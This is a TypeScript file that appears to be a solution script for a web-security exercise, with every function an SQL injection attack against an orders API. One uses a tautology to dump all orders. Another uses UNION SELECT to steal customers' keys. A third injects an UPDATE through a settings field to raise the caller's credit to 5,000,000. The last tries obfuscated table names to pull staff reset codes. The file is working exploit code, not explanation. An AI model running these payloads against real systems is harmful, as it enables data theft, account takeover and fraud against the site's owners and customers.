import { request } from 'ounce:client';

interface Me {
  name: string;
  key: string;
}

async function send(me: Me, method: string, url: string, body?: unknown): Promise<any> {
  const response = await request({ method, url, headers: { 'x-key': me.key }, body });
  return response.status === 200 ? JSON.parse(response.body) : `${response.status} ${response.body}`;
}

const search = (me: Me, item: string): Promise<any> => send(me, 'GET', `/orders?item=${encodeURIComponent(item)}`);
const report = (me: Me, sort: string): Promise<any> => send(me, 'GET', `/report?sort=${encodeURIComponent(sort)}`);

export async function readOrders(me: Me): Promise<unknown> {
  return search(me, `' OR 1=1 --`);
}
export async function readKey(me: Me): Promise<unknown> {
  return search(me, `none' UNION ALL SELECT key, name, id, language FROM customers --`);
}
export async function raiseCredit(me: Me): Promise<void> {
  await send(me, 'PUT', '/settings', { language: `en'', credit = 5000000 WHERE key = '${me.key}' --` });
}

export async function readCode(me: Me): Promise<unknown> {
  const names = ['staff', 'STAFF', '"staff"', '[staff]', 'main.staff', 'st/**/aff', "'st'||'aff'"];
  return Promise.all(
    names.map((name) => search(me, `none' UNION ALL SELECT reset_code, name, role, 1 FROM ${name} --`)),
  );
}
